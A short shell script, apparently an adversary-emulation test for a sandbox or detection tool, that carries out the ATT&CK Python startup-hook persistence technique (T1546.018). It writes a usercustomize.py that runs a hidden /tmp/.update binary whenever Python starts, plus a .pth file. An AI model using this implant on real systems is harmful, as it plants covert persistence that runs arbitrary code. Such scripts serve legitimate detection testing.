#!/bin/sh
# technique: T1546.018 T1546
# needs: python3
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

d=$(python3 -m site --user-site); mkdir -p "$d"; echo 'import os; os.system("/tmp/.update")' > "$d/usercustomize.py"; echo 'import os' > "$d/update.pth"
